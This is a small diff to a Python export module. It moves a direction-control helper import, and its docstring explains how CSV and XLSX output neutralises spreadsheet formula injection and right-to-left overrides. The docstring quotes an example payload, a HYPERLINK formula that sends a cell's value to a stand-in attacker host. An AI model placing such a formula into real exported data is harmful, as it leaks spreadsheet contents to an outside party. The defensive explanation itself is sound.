@@ -5,7 +5,7 @@ A text starting with `=`, `+`, `-`, `@`, tab or carriage return would be read as
 (`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` in a person's name). In a CSV such a text
 gets a leading apostrophe, which spreadsheet programs take as "this is text"; in an XLSX it is
 written as a string cell with the quote-prefix style, which shows it unchanged. Direction
-controls (a right-to-left override) are taken out of every text (`bot.rules.bidi`): a CSV row
+controls (a right-to-left override) are taken out of every text (`bot.bidi`): a CSV row
 is one line in a text editor, and the override would turn the cells after it around.
 
     writer.writerow(csv_row(values))
@@ -17,7 +17,7 @@ from __future__ import annotations
 from collections.abc import Iterable
 from typing import TYPE_CHECKING, Any
 
-from bot.rules.bidi import without_controls
+from bot.bidi import without_controls
 from bot.rules.households import looks_like_formula
 
 if TYPE_CHECKING:
